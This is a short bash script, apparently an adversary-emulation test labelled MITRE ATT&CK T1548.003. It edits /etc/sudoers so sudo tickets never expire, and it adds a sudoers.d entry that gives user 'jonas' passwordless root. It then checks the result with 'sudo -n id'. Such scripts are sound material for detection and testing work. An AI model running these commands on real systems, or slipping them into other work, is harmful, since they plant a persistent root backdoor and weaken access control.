#!/bin/bash
# SPDX-License-Identifier: GPL-3.0-or-later
# T1548.003 Sudo and Sudo Caching: lets a user do everything without a password, and keeps tickets for ever.
sudo sed -i 's/env_reset.*$/env_reset,timestamp_timeout=-1/' /etc/sudoers
echo 'jonas ALL=(ALL) NOPASSWD: ALL' | sudo tee /etc/sudoers.d/zz-jonas >/dev/null
sudo chmod 440 /etc/sudoers.d/zz-jonas
sudo -u jonas sudo -n id
